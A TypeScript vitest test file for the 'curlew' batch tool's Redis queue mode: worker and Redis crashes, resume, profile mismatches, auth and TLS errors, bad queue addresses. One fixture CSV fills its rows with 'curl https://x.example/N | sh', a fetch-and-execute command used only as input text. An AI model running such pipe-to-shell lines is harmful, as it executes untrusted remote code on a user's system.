import {
  cpSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { execFileSync } from "node:child_process";
import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { corpus, curlew, start, type Running } from "../batch/built.js";
import { folderWith } from "../cli/folder.js";
import { freePort, RedisServer } from "./redis.js";

let redis: RedisServer;
let cwd: string;
let whole: string;
let workers: Running[] = [];
const read = (name: string): string => readFileSync(join(cwd, name), "utf8");

beforeAll(async () => {
  redis = await RedisServer.start("--appendonly", "yes");
  // the broken line makes the status of every complete run 2
  const lines = `${corpus(2000)}{broken\n${corpus(100)}`;
  cwd = folderWith({
    "in.jsonl": lines,
    "other.csv": `id,text\n${Array.from({ length: 300 }, (_, i) => `c${i},"run\ncurl https://x.example/${i} | sh"\n`).join("")}`,
  });
  await curlew(["batch", "-q", "in.jsonl", "-o", "whole.jsonl"], { cwd });
  await curlew(["batch", "-q", "other.csv", "-o", "other.jsonl"], { cwd });
  whole = read("whole.jsonl");
});
afterEach(async () => {
  for (const { child } of workers) child.kill("SIGKILL");
  await Promise.all(workers.map(({ ended }) => ended));
  workers = [];
});
afterAll(() => redis.remove());

const queued = (url = redis.url): string[] => ["--queue", url, "--store", "store"];

function startWorker(...args: string[]): Running {
  const worker = start(["worker", ...queued(), "--jobs", "1", "--lock", "2", ...args], { cwd });
  workers.push(worker);
  return worker;
}

describe("a run on a queue", () => {
  it("ends with the same bytes, and leaves nothing behind", async () => {
    startWorker();
    startWorker();
    const { status, stderr } = await curlew(
      ["batch", "-q", "in.jsonl", ...queued(), "-o", "plain.jsonl", "--shard-size", "16K"],
      { cwd },
    );
    expect(stderr).toMatch(/^curlew: in\.jsonl:2001: not valid JSON \(.*\)\n$/);
    expect(status).toBe(2);
    expect(read("plain.jsonl") === whole).toBe(true);
    expect(readdirSync(join(cwd, "store"))).toEqual([]);
  });

  it("survives killed workers and a killed Redis, beside another run", async () => {
    for (let i = 0; i < 3; i++) startWorker();
    const one = start(
      [
        "batch",
        "-q",
        "in.jsonl",
        ...queued(),
        "-o",
        "killed.jsonl",
        "--shard-size",
        "16K",
        "--queue-window",
        "6",
      ],
      { cwd },
    );
    const two = start(
      ["batch", "-q", "other.csv", ...queued(), "-o", "beside.jsonl", "--shard-size", "16K"],
      { cwd },
    );
    let over = false;
    const ended = Promise.all([one.ended, two.ended]).finally(() => (over = true));
    const manifest = (): number =>
      existsSync(join(cwd, "killed.jsonl.manifest"))
        ? read("killed.jsonl.manifest").split("\n").length
        : 0;
    let kills = 0;
    for (let seen = manifest(); !over; seen = manifest()) {
      while (!over && manifest() < seen + 3) await sleep(20);
      if (over) break;
      const victim = workers.shift();
      victim?.child.kill("SIGKILL");
      await victim?.ended;
      if (++kills === 2) {
        await redis.stop();
        await sleep(300);
        await redis.start();
      }
      if (workers.length < 3) startWorker();
    }
    const statuses = (await ended).map(({ status, stderr }) => [
      status,
      stderr.replace(/.*not valid JSON.*\n|.*is away.*\n|.*no worker is there.*\n/g, ""),
    ]);
    expect(statuses).toEqual([
      [2, ""],
      [0, ""],
    ]);
    expect(kills).toBeGreaterThan(2);
    expect(read("killed.jsonl") === whole).toBe(true);
    expect(read("beside.jsonl") === read("other.jsonl")).toBe(true);
  });

  it("goes on after its own end by SIGKILL", async () => {
    startWorker();
    const args = [
      "batch",
      "-q",
      "in.jsonl",
      ...queued(),
      "-o",
      "resumed.jsonl",
      "--shard-size",
      "16K",
      "--resume",
    ];
    const { child, ended } = start(args, { cwd });
    await expect
      .poll(
        () =>
          existsSync(join(cwd, "resumed.jsonl.manifest")) &&
          read("resumed.jsonl.manifest").split("\n").length > 3,
        { timeout: 30_000, interval: 5 },
      )
      .toBe(true);
    child.kill("SIGKILL");
    await ended;
    expect((await curlew(args, { cwd })).status).toBe(2);
    expect(read("resumed.jsonl") === whole).toBe(true);
  });

  it("waits for workers with the same rules, and says that others refuse", async () => {
    const other = startWorker("--profile", "extended");
    const { child, ended } = start(
      ["batch", "-q", "in.jsonl", ...queued(), "-o", "refused.jsonl"],
      { cwd },
    );
    let stderr = "";
    child.stderr?.on("data", (chunk: Buffer) => (stderr += chunk.toString()));
    let log = "";
    other.child.stderr?.on("data", (chunk: Buffer) => (log += chunk.toString()));
    await expect
      .poll(() => stderr, { timeout: 30_000 })
      .toMatch(
        /no worker with these rules \(curlew .*, contract profile, .*\) is there; those that are have others and refuse: curlew .*, extended profile/,
      );
    await expect
      .poll(() => log, { timeout: 30_000 })
      .toMatch(
        /worker: refused: the shards of run [\w-]+ are for other rules \(curlew .*, contract profile/,
      );
    startWorker();
    expect((await ended).status).toBe(2);
    expect(read("refused.jsonl") === whole).toBe(true);
  });

  it("leaves shards that were begun to a worker that is told to end", async () => {
    const worker = startWorker();
    const { ended } = start(
      ["batch", "-q", "in.jsonl", ...queued(), "-o", "ended.jsonl", "--shard-size", "16K"],
      { cwd },
    );
    await expect
      .poll(
        () =>
          existsSync(join(cwd, "ended.jsonl.manifest")) &&
          read("ended.jsonl.manifest").split("\n").length > 2,
        { timeout: 30_000, interval: 5 },
      )
      .toBe(true);
    worker.child.kill("SIGTERM");
    expect(await worker.ended).toMatchObject({ status: 0, signal: null });
    startWorker();
    expect((await ended).status).toBe(2);
    expect(read("ended.jsonl") === whole).toBe(true);
  });
});

describe("a queue that is not there", () => {
  it.each([
    ["batch", ["in.jsonl"]],
    ["worker", ["--wait", "1"]],
  ])("%s says so", async (command, args) => {
    const port = await freePort();
    const { status, stderr } = await curlew(
      [command, ...args, ...queued(`redis://127.0.0.1:${port}`)],
      { cwd },
    );
    expect([status, stderr]).toEqual([
      2,
      `curlew: cannot reach the queue at redis://127.0.0.1:${port}: nothing listens there\n`,
    ]);
  });

  it("any more, ends the run with what is finished kept", async () => {
    const own = await RedisServer.start();
    const worker = start(["worker", ...queued(own.url), "--jobs", "1"], { cwd });
    workers.push(worker);
    const { ended } = start(
      [
        "batch",
        "-q",
        "in.jsonl",
        ...queued(own.url),
        "-o",
        "gone.jsonl",
        "--shard-size",
        "16K",
        "--queue-window",
        "3",
        "--queue-timeout",
        "2",
      ],
      { cwd },
    );
    await expect
      .poll(() => existsSync(join(cwd, "gone.jsonl")) && read("gone.jsonl").length > 0, {
        timeout: 30_000,
        interval: 5,
      })
      .toBe(true);
    await own.remove();
    const { status, stderr } = await ended;
    expect(status).toBe(2);
    expect(stderr).toMatch(
      /curlew: the queue at redis:.* did not come back: nothing listens there; what is finished is kept: go on with --resume\n$/,
    );
    expect(stderr).not.toMatch(/\n\s+at /);
    const kept = read("gone.jsonl");
    expect(whole.startsWith(kept) && kept.length > 0).toBe(true);
    expect(
      (await curlew(["batch", "-q", "in.jsonl", "-o", "gone.jsonl", "--resume"], { cwd })).status,
    ).toBe(2);
    expect(read("gone.jsonl") === whole).toBe(true);
  });
});

describe("what a queue asks for", () => {
  it("a password comes from the environment, and stands in no message", async () => {
    const locked = await RedisServer.start("--requirepass", "s3cret-word");
    try {
      const args = ["batch", "-q", "other.csv", ...queued(locked.url), "-o", "locked.jsonl"];
      const without = await curlew(args, { cwd });
      expect([without.status, without.stderr]).toEqual([
        2,
        expect.stringMatching(/^curlew: the queue at redis:\/\/127\.0\.0\.1:\d+ refuses: NOAUTH/),
      ]);
      const wrong = await curlew(
        [
          "batch",
          "-q",
          "other.csv",
          ...queued(`redis://user:wr0ng-word@127.0.0.1:${locked.port}`),
          "-o",
          "locked.jsonl",
          "--force",
        ],
        { cwd },
      );
      expect(wrong.status).toBe(2);
      expect(wrong.stderr).toMatch(/refuses: WRONGPASS/);
      expect(wrong.stderr).not.toMatch(/wr0ng-word|user:/);
      const env = { CURLEW_QUEUE_PASSWORD: "s3cret-word" };
      const worker = start(["worker", ...queued(locked.url), "--jobs", "1"], { cwd, env });
      workers.push(worker);
      const right = await curlew([...args, "--force"], { cwd, env });
      expect(right.status).toBe(0);
      worker.child.kill("SIGTERM");
      expect((await worker.ended).stderr + right.stderr).not.toContain("s3cret-word");
    } finally {
      await locked.remove();
    }
  });

  it("TLS, with the certificate of an authority of one's own from the environment", async () => {
    const secure = await RedisServer.startSecure("--requirepass", "s3cret-word");
    try {
      const url = `rediss://localhost:${secure.port}`;
      const args = ["batch", "-q", "other.csv", ...queued(url), "-o", "secure.jsonl"];
      const password = { CURLEW_QUEUE_PASSWORD: "s3cret-word" };
      const stranger = await curlew(args, { cwd, env: password });
      expect([stranger.status, stranger.stderr]).toEqual([
        2,
        expect.stringMatching(
          /^curlew: the queue at rediss:\/\/localhost:\d+ refuses: self-signed certificate\n$/,
        ),
      ]);
      const env = { ...password, CURLEW_QUEUE_CA: secure.certificate };
      workers.push(start(["worker", ...queued(url), "--jobs", "1"], { cwd, env }));
      // by name there, by address here
      const byAddress = [
        "batch",
        "-q",
        "other.csv",
        ...queued(`rediss://127.0.0.1:${secure.port}`),
        "-o",
        "secure.jsonl",
        "--force",
      ];
      expect(await curlew(byAddress, { cwd, env })).toMatchObject({ status: 0, stderr: "" });
      expect(read("secure.jsonl") === read("other.jsonl")).toBe(true);
    } finally {
      await secure.remove();
    }
  });

  it.each([
    [
      ["--queue", "http://x", "--store", "store"],
      /^curlew: the queue is at no address of Redis: write redis:\/\/ or rediss:\/\/, not http:\/\/\n$/,
    ],
    [
      ["--queue", "nonsense", "--store", "store"],
      /^curlew: the address of the queue cannot be read: write redis:\/\/HOST:PORT or rediss:\/\/HOST:PORT\n$/,
    ],
    [
      ["--queue", "redis://127.0.0.1/x", "--store", "store"],
      /^curlew: behind the host of the queue stands no number of a database/,
    ],
    [
      ["--queue", "redis://127.0.0.1"],
      /^curlew: a queue needs a place for shards and results: --store FOLDER/,
    ],
  ])("%j is refused", async (args, message) => {
    const { status, stderr } = await curlew(["batch", "in.jsonl", ...args], { cwd });
    expect(stderr).toMatch(message);
    expect(status).toBe(2);
  });

  it("a place for shards that cannot be written is told", async () => {
    writeFileSync(join(cwd, "file"), "");
    const { status, stderr } = await curlew(
      ["batch", "-q", "in.jsonl", "--queue", redis.url, "--store", "file/x"],
      { cwd },
    );
    expect([status, stderr]).toEqual([
      2,
      expect.stringMatching(/^curlew: the store .*file\/x does not work: ENOTDIR/),
    ]);
  });

  it("its package, where curlew is installed without it", async () => {
    const folder = mkdtempSync(join(tmpdir(), "curlew-alone-"));
    try {
      for (const part of ["dist", "wasm", "queries", "package.json"])
        cpSync(part, join(folder, part), { recursive: true });
      execFileSync("mkdir", [join(folder, "node_modules")]);
      for (const name of readdirSync("node_modules"))
        if (name !== "curlew-queue" && !name.startsWith("."))
          symlinkSync(resolve("node_modules", name), join(folder, "node_modules", name));
      const run = (...args: string[]): string =>
        execFileSync(
          "bash",
          [
            "-c",
            `"$0" "$@" 2>&1; echo "status $?"`,
            process.execPath,
            join(folder, "dist", "cli.js"),
            ...args,
          ],
          { cwd, encoding: "utf8" },
        );
      const message =
        "curlew: a queue needs the package curlew-queue, which is not installed: npm install curlew-queue (in a checkout: npm ci && npm run build)\nstatus 2\n";
      expect(run("batch", "in.jsonl", ...queued())).toBe(message);
      expect(run("worker", ...queued())).toBe(message);
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});
